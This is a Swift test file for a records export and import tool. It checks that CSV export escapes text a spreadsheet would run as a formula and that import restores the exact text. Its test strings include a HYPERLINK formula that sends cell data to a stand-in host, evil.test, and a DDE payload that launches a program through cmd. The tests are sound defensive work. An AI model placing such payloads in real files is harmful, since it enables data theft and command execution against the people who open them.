import Foundation
import NephosTesting
import Testing

/// docs/running.md, "Exporting and importing records": texts that a spreadsheet would run.
extension TransferCommandTests {
    /// Texts, and whether a spreadsheet could take them for a formula.
    private static let texts: [(text: String, isFormula: Bool)] = [
        ("=HYPERLINK(\"https://evil.test?\"&A1)", true), ("=1+1", true), ("+1+1", true), ("-1+1", true),
        ("@SUM(1)", true),
        ("\t=1", true), ("\r=1", true), ("\n=1", true), ("  =1", true), ("=", true), ("-", true), ("-5", true),
        ("＝1+1", true), ("＋1", true), ("－1", true), ("＠x", true), ("'=1", true), ("''=1", true), ("' =1", true),
        ("=cmd|'/C calc'!A0", true), ("=1\u{301}", true), ("=\u{301}1", true),
        ("", false), ("'", false), ("it's", false), ("'tis", false), ("'quoted'", false), ("a=1", false), ("5", false),
        ("1-2", false), ("a;=1", false), ("a\t=1", false), ("\"=1\"", false), ("ünïcode", false), (" ", false),
    ]

    @Test(
        "A text that a spreadsheet would run is exported after an apostrophe, which an import removes: the exact text returns"
    )
    func formulas() throws {
        for (index, row) in Self.texts.enumerated() {
            let fields: JSON = [
                "text": ["value": .string(row.text)], "number": ["value": -5], "amount": ["value": -0.5],
            ]
            try write(
                (["recordName": .string("r\(index)"), "fields": fields] as JSON).description + "\n", to: "one.ndjson")
            let imported = try run("records import \(Self.id) Plain FOLDER/one.ndjson")
            #expect(imported.status == 0, "\(row.text): \(imported)")
        }
        let exact = try run("records export \(Self.id) Plain").output
        let table = try run("records export \(Self.id) Plain --output csv --requested-fields text number amount")
        #expect(table.status == 0, "\(table)")
        for (text, isFormula) in Self.texts where !text.contains(where: \.isNewline) {
            let cell = (isFormula ? "'" : "") + text.replacing("\"", with: "\"\"")
            // Numbers stay numbers.
            let line = try #require(
                table.output.split(separator: "\n").first { line in
                    line.hasSuffix(",-5,-0.5") && (line.contains(",\(cell),") || line.contains(",\"\(cell)\","))
                }, "\(text)\n\(table.output)")
            #expect(line.hasPrefix("r"))
        }
        // No cell of a text begins like a formula.
        let cells = try #require(Self.cells(table.output))
        #expect(
            cells.dropFirst().allSatisfy { row in !"=+-@\t\r\n＝＋－＠".contains(row[1].drop { $0 == " " }.first ?? "x") })

        try write(table.output, to: "table.csv")
        let copy = "iCloud.com.example.copy"
        let imported = try run("records import \(copy) Plain FOLDER/table.csv")
        #expect(imported.status == 0, "\(imported)")
        let returned = try lines(try run("records export \(copy) Plain").output)
        let expected = try lines(exact)
        for record in expected {
            let same = returned.first { $0["recordName"] == record["recordName"] }
            #expect(same?["fields"]["text"] == record["fields"]["text"], "\(record)")
        }
        #expect(returned.count == Self.texts.count && expected.count == returned.count)
    }

    @Test("The name of a record is such a text too")
    func names() throws {
        try write(
            #"{"recordName":"=1+1","fields":{}}"# + "\n" + #"{"recordName":"'=2","fields":{}}"# + "\n", to: "n.ndjson")
        #expect(try run("records import \(Self.id) Plain FOLDER/n.ndjson").status == 0)
        let table = try run("records export \(Self.id) Plain --output csv --requested-fields text").output
        #expect(table.contains("\n'=1+1,") && table.contains("\n''=2,"), "\(table)")
        try write(table, to: "n.csv")
        let again = try run("records import \(Self.id) Plain FOLDER/n.csv")
        #expect(again.errors == "0 records saved, 2 existed already.\n", "\(again)")
    }

    @Test("Base64 that begins with a plus is such a text too")
    func base64() throws {
        try write(
            #"{"recordName":"a","fields":{"data":{"value":"+AAA","type":"BYTES"}}}"# + "\n", to: "b.ndjson")
        let imported = try run("records import \(Self.id) Plain FOLDER/b.ndjson")
        #expect(imported.status == 0, "\(imported)")
        let table = try run("records export \(Self.id) Plain --output csv --requested-fields data").output
        #expect(table.contains("\na,'+AAA\n"), "\(table)")
        try write(table, to: "b.csv")
        let again = try run("records import \(Self.id) Plain FOLDER/b.csv")
        #expect(again.errors == "0 records saved, 1 existed already.\n", "\(again)")
    }

    @Test("A table that a spreadsheet wrote is read as it is: only an apostrophe before a formula is removed")
    func foreignTables() throws {
        try write("recordName,text,number\na,=1+1,-5\nb,'=1+1,5\nc,'tis,\n", to: "foreign.csv")
        #expect(try run("records import \(Self.id) Plain FOLDER/foreign.csv").status == 0)
        let found = try lines(try run("records export \(Self.id) Plain").output)
        #expect(found.map { $0["fields"]["text"]["value"] } == ["=1+1", "=1+1", "'tis"])
        #expect(found.first?["fields"]["number"]["value"].int64 == -5)
    }

    /// The rows of a table by RFC 4180.
    private static func cells(_ text: String) -> [[String]]? {
        var (rows, row, cell, isQuoted): ([[String]], [String], String, Bool) = ([], [], "", false)
        var rest = Array(text.unicodeScalars)[...]
        while let scalar = rest.popFirst() {
            switch scalar {
            case "\"" where isQuoted && rest.first == "\"": cell.unicodeScalars.append(rest.removeFirst())
            case "\"": isQuoted.toggle()
            case "," where !isQuoted: (row, cell) = (row + [cell], "")
            case "\n" where !isQuoted: (rows, row, cell) = (rows + [row + [cell]], [], "")
            default: cell.unicodeScalars.append(scalar)
            }
        }
        return isQuoted ? nil : rows
    }
}
